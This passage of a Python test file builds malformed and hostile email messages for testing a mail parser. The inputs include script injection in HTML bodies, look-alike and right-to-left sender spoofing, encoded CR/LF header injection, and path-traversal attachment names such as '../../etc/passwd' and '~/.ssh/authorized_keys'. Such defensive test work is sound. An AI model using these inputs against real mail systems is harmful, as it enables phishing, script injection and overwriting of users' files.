        "Content-Type: text/html; charset=utf-16le",
        "Content-Transfer-Encoding: base64",
        body=base64.encodebytes(
            '<p>hi</p><script>alert(1)</script><img src="https://t.hostile.test/u.gif">'.encode(
                "utf-16-le"
            )
        ),
    ),
)
_case(
    "html_qp_split_script",
    'quoted-printable HTML whose "<script" and "javascript:" are split by soft line breaks',
    lambda: mail(
        "html_qp_split_script",
        "Content-Type: text/html; charset=utf-8",
        "Content-Transfer-Encoding: quoted-printable",
        body=b'<p>qp</p><scr=\r\nipt>alert(1)</scr=\r\nipt><a href=3D"java=\r\nscript:alert(1)">'
        b'x</a><img src=3D"https=3A//t.hostile.test/q.gif">',
    ),
)

# Senders and look-alikes ----------------------------------------------------------------

_case(
    "from_cyrillic_lookalike",
    'Cyrillic "а" in "pаypal", in the name and the (SMTPUTF8) domain',
    lambda: mail(
        "from_cyrillic_lookalike",
        f"From: {b64_word('PаyPal Service')} <service@pаypal.com>",
        body="look-alike",
    ),
)
_case(
    "from_rtl_override",
    "a right-to-left override (U+202E) in the display name that reverses a domain",
    lambda: mail(
        "from_rtl_override",
        "From: " + b64_word("Support \u202emoc.lapyap\u202c") + " <evil@attacker.hostile.test>",
        body="rtl",
    ),
)
_case(
    "from_zero_width",
    "zero-width joiners, spaces and BOMs inside the display name",
    lambda: mail(
        "from_zero_width",
        "From: "
        + b64_word("Pay\u200dPal\u200b Sup\u2060port\ufeff")
        + " <evil@attacker.hostile.test>",
        body="zero width",
    ),
)
_case(
    "from_display_name_spoof",
    'an address in the display name: "service@bank.com" <evil@attacker.ru>',
    lambda: mail(
        "from_display_name_spoof",
        'From: "service@bank.com" <evil@attacker.ru>',
        body="spoof",
    ),
)
_case(
    "from_display_name_spoof_encoded",
    "the spoofed address hidden in an encoded word, with angle brackets",
    lambda: mail(
        "from_display_name_spoof_encoded",
        f"From: {b64_word('Bank <service@bank.com>')} <evil@attacker.ru>",
        body="spoof",
    ),
)
_case(
    "from_fullwidth_at_spoof",
    "a display name with a full-width at sign (U+FF20) posing as an address",
    lambda: mail(
        "from_fullwidth_at_spoof",
        f"From: {b64_word('service＠bank.com')} <evil@attacker.ru>",
        body="spoof",
    ),
)
_case(
    "from_comment_spoof",
    "an address in a comment, which parsers may take as the name",
    lambda: mail(
        "from_comment_spoof",
        "From: evil@attacker.ru (service@bank.com)",
        body="comment",
    ),
)
_case(
    "from_encoded_address",
    "the address itself hidden in an encoded word",
    lambda: mail(
        "from_encoded_address",
        "From: =?utf-8?Q?evil=40attacker.ru?= <=?utf-8?Q?service=40bank.com?=>",
        body="encoded address",
    ),
)
_case(
    "from_several",
    "two From headers, each with several mailboxes and a group",
    lambda: mail(
        "from_several",
        "From: a@hostile.test, Bank: service@bank.com;, b@hostile.test",
        "From: second@hostile.test",
        body="several",
    ),
)
_case(
    "from_rtl_in_address",
    "bidi and zero-width characters inside the address itself (raw UTF-8)",
    lambda: mail(
        "from_rtl_in_address",
        "From: Shop <ser\u202evice\u200b@bank.com>",
        body="rtl address",
    ),
)

# Header injection -----------------------------------------------------------------------

_case(
    "subject_encoded_crlf",
    "an encoded-word subject that decodes to CR/LF and a fake Bcc header",
    lambda: mail(
        "subject_encoded_crlf",
        "Subject: =?utf-8?Q?Hello=0D=0ABcc:_victim@hostile.test=0D=0A=0D=0A<script>?=",
        body="crlf",
    ),
)
_case(
    "from_name_encoded_crlf",
    "a display name that decodes to CR/LF and a Reply-To header",
    lambda: mail(
        "from_name_encoded_crlf",
        f"From: {b64_word('Bank' + chr(13) + chr(10) + 'Reply-To: evil@attacker.ru')} <a@bank.com>",
        body="crlf",
    ),
)
_case(
    "subject_controls_and_separators",
    "NUL, ESC (terminal colours), DEL, NEL, LINE and PARAGRAPH SEPARATOR in an encoded subject",
    lambda: mail(
        "subject_controls_and_separators",
        "Subject: =?utf-8?Q?a=00b=1B[31mc=07d=7Fe=C2=85f=E2=80=A8g=E2=80=A9h=0Bi=0Cj?=",
        body="controls",
    ),
)

# Message ids ----------------------------------------------------------------------------

_case(
    "message_id_spaces_quotes_brackets",
    "Message-ID, In-Reply-To and References with spaces, quotes and nested brackets",
    lambda: mail(
        "message_id_spaces_quotes_brackets",
        'Message-ID: <"a b"@hostile.test> <<>>',
        'In-Reply-To: "quoted id" <a<b>c@hostile.test> (comment <d@e>)',
        'References: <<x@y>> <"q r"@s> <> <   > <a\x01b@c>',
        body="ids",
    ),
)
_case(
    "message_id_huge",
    "a 10 KB Message-ID",
    lambda: mail("message_id_huge", f"Message-ID: <{'i' * 10_000}@hostile.test>", body="huge id"),
)
_case(
    "message_id_empty",
    "Message-ID: <> and nothing usable",
    lambda: mail("message_id_empty", "Message-ID: <>", body="empty id"),
)
_case(
    "message_id_control_chars",
    "NUL and control characters inside ids",
    lambda: mail(
        "message_id_control_chars",
        b"Message-ID: <a\x00b@hostile.test>",
        b"In-Reply-To: <c\x1b[2Jd@hostile.test>",
        body="control ids",
    ),
)
_case(
    "date_garbage",
    "dates out of range: year 99999, hour 25, zone +9999, day 0",
    lambda: mail(
        "date_garbage",
        "Date: Mon, 32 Foo 99999 25:61:61 +9999",
        "Resent-Date: 0 Jan 0000 00:00:00 -2359",
        body="date",
    ),
)

# Attachment names -----------------------------------------------------------------------

_case(
    "filename_path_traversal",
    'attachment named "../../etc/passwd"',
    lambda: attachment_mail(
        "filename_path_traversal",
        'Content-Type: application/octet-stream; name="../../etc/passwd"',
        'Content-Disposition: attachment; filename="../../etc/passwd"',
    ),
)
_case(
    "filename_windows_path",
    "attachment named C:\\Windows\\x.exe (quoted and unquoted)",
    lambda: attachment_mail(
        "filename_windows_path",
        "Content-Type: application/octet-stream; name=C:\\Windows\\System32\\y.exe",
        'Content-Disposition: attachment; filename="C:\\\\Windows\\\\x.exe"',
    ),
)
_case(
    "filename_nul_and_newlines",
    "RFC 2231 file name holding NUL, CR and LF",
    lambda: attachment_mail(
        "filename_nul_and_newlines",
        "Content-Type: application/octet-stream",
        "Content-Disposition: attachment; filename*=utf-8''evil%00.txt%0D%0A%0A.exe",
    ),
)
_case(
    "filename_encoded_crlf",
    "an encoded-word file name that decodes to a path with CR/LF",
    lambda: attachment_mail(
        "filename_encoded_crlf",
        'Content-Type: application/octet-stream; name="' + b64_word("/etc/cron.d/x\r\ny.sh") + '"',
    ),
)
_case(
    "filename_rtl_override",
    "a right-to-left override that shows invoice\u202efdp.exe as invoiceexe.pdf",
    lambda: attachment_mail(
        "filename_rtl_override",
        "Content-Type: application/octet-stream",
        "Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe",
    ),
)
_case(
    "filename_windows_reserved",
    "device names and trailing dots/spaces that Windows cannot save",
    lambda: mail(
        "filename_windows_reserved",
        'Content-Type: multipart/mixed; boundary="res"',
        body=multipart(
            "res",
            [
                part(
                    "Content-Type: application/octet-stream",
                    f'Content-Disposition: attachment; filename="{name}"',
                    body="x",
                )
                for name in (
                    "CON",
                    "aux.txt",
                    "nul.tar.gz",
                    "LPT1",
                    "report. . ",
                    "a<b>c:d|e?f*.txt",
                )
            ],
        ),
    ),
)
_case(
    "filename_dots_only",
    'file names ".", "..", "..." and ""',
    lambda: mail(
        "filename_dots_only",
        'Content-Type: multipart/mixed; boundary="dots"',
        body=multipart(
            "dots",
            [
                part(
                    "Content-Type: application/octet-stream",
                    f'Content-Disposition: attachment; filename="{name}"',
                    body="x",
                )
                for name in (".", "..", "...", "", "/", "\\\\")
            ],
        ),
    ),
)
_case(
    "filename_unc_url_home",
    "UNC paths, file: URLs and ~ paths as file names",
    lambda: mail(
        "filename_unc_url_home",
        'Content-Type: multipart/mixed; boundary="unc"',
        body=multipart(
            "unc",
            [
                part(
                    "Content-Type: application/octet-stream",
                    f"Content-Disposition: attachment; filename*=utf-8''{name}",
                    body="x",
                )
                for name in (
                    "%5C%5Cserver%5Cshare%5Cx.exe",
                    "file%3A%2F%2F%2Fetc%2Fpasswd",
                    "~%2F.ssh%2Fauthorized_keys",
                    "%2Fabsolute%2Fpath.txt",
                )
            ],
        ),
    ),
)
_case(
    "filename_10k_long",
    "a 10,000-character file name",
    lambda: attachment_mail(
        "filename_10k_long",
        "Content-Type: application/octet-stream",
        f'Content-Disposition: attachment; filename="{"n" * 10_000}.pdf"',
    ),
)
_case(
    "attachments_1000",
    "1,000 attachments, each named with a traversal",
    lambda: mail(
        "attachments_1000",
        'Content-Type: multipart/mixed; boundary="thousand"',
        body=multipart(
            "thousand",
            [
                part(
                    f'Content-Type: application/octet-stream; name="../{i}.bin"',
                    "Content-Transfer-Encoding: base64",
                    body="AAAA",
                )
                for i in range(1000)
            ],
        ),
    ),
)

# Transfer encodings ---------------------------------------------------------------------

_case(
    "base64_garbage",
    "base64 bodies with punctuation, spaces, padding in the middle and a stray character",
    lambda: mail(
        "base64_garbage",
        'Content-Type: multipart/mixed; boundary="b64"',
        body=multipart(
            "b64",
            [
                part(
                    "Content-Type: text/plain; charset=utf-8",
                    "Content-Transfer-Encoding: base64",
                    body=b"SGVs!!!bG8g@@@d29y==bGQ=\r\n====\r\nAA A\r\nB",
                ),
                part(
                    "Content-Type: text/html; charset=utf-8",
                    "Content-Transfer-Encoding: base64",
                    body=base64.encodebytes(b"<script>alert(1)</script><p>b64 html</p>")[:-6]
                    + b"*&^%",
                ),
                part(
                    "Content-Type: application/pdf; name=x.pdf",
                    "Content-Transfer-Encoding: base64",
                    body=b"%%%%\r\n=\r\n",
                ),
            ],
        ),
    ),
)
_case(
    "quoted_printable_broken",
    "quoted-printable with broken soft breaks: = at the end, =\\r, = then spaces, bad hex",
    lambda: mail(
        "quoted_printable_broken",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: quoted-printable",
        body=b"soft=  \r\nbreak=\rbare=\nlf =ZZ bad =4 short =E2=82 cut =C3=\r\n=A4 split\r\n"
        + b"x" * 5000
        + b"=",
    ),
)
_case(
    "cte_unknown",
    "unknown and combined transfer encodings: x-uuencode, 'base64; junk', 'qp, base64'",
    lambda: mail(
        "cte_unknown",
        'Content-Type: multipart/mixed; boundary="cte"',
        body=multipart(
            "cte",
            [
                part(
                    "Content-Type: text/plain",
                    "Content-Transfer-Encoding: x-uuencode",
                    body=b"begin 644 x.txt\r\n#86)C\r\n`\r\nend\r\n",
                ),
                part(
                    "Content-Type: text/plain",
                    "Content-Transfer-Encoding: base64; junk",
                    body="aGk=",
                ),
                part(
                    "Content-Type: text/plain",
                    "Content-Transfer-Encoding: quoted-printable, base64",
                    body="=41",
                ),
            ],
        ),
    ),
)
_case(
    "encoded_words_broken",
    "encoded words with bad base64, cut UTF-8, empty and starred charsets, no terminator",
    lambda: mail(
        "encoded_words_broken",
        "Subject: =?utf-8?B?####?= =?utf-8?Q?=E2=80?= =?*?Q?x?= =?utf-8*en?Q?y?= =??Q?z?="
        " =?utf-8?X?w?= =?utf-8?B?YWJj",
        body="broken words",
    ),
)


def case_names() -> list[str]:
    return [case.name for case in CASES]


def case_named(name: str) -> HostileCase:
    for case in CASES:
        if case.name == name:
            return case
    raise KeyError(name)


def small_cases() -> list[HostileCase]:
    """Every case except the huge one(s)."""
    return [case for case in CASES if not case.huge]
